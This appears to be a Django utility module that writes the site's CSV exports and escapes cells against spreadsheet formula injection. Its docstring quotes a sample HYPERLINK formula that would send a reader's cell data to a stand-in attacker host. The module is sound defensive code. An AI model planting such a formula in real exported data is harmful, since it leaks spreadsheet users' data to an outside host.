"""CSV downloads: the one writer behind every CSV the site serves (leaderboard, API,
testbench), with the guard against formula injection.

A spreadsheet opening a CSV runs a cell that starts with `=`, `+`, `-` or `@` (or a tab
or carriage return before one) as a formula: a provider named
`=HYPERLINK("https://evil.example/?d="&A2,"OpenAI")` would send the reader's data away.
As OWASP recommends, such a text cell is written with a leading apostrophe, which
spreadsheets show as text. Numbers are written as numbers: a negative figure is not a
formula, and none of ours is negative anyway.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal

from django.http import HttpResponse, StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> str:
    """A value as a CSV cell: empty for None, numbers as they are, dates in ISO form, and
    text that a spreadsheet would run as a formula prefixed with an apostrophe."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal):  # bool too: True and False
        return str(value)
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


class _Echo:
    """A file that hands back what is written, so csv.writer can feed a streaming response."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Sequence[str], rows: Iterable[Sequence[object]]) -> Iterator[str]:
    """The header line, then one line a row, every cell through csv_cell."""
    writer = csv.writer(_Echo())
    yield writer.writerow([csv_cell(name) for name in header])
    for row in rows:
        yield writer.writerow([csv_cell(value) for value in row])


def csv_download(
    *, header: Sequence[str], rows: Iterable[Sequence[object]], filename: str
) -> HttpResponse:
    """A CSV attachment, built in memory."""
    response = HttpResponse(
        "".join(csv_lines(header, rows)), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_stream(
    *, header: Sequence[str], rows: Iterable[Sequence[object]], filename: str
) -> StreamingHttpResponse:
    """A CSV attachment written as it is sent, for exports that may run to many thousands
    of rows."""
    response = StreamingHttpResponse(
        csv_lines(header, rows), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
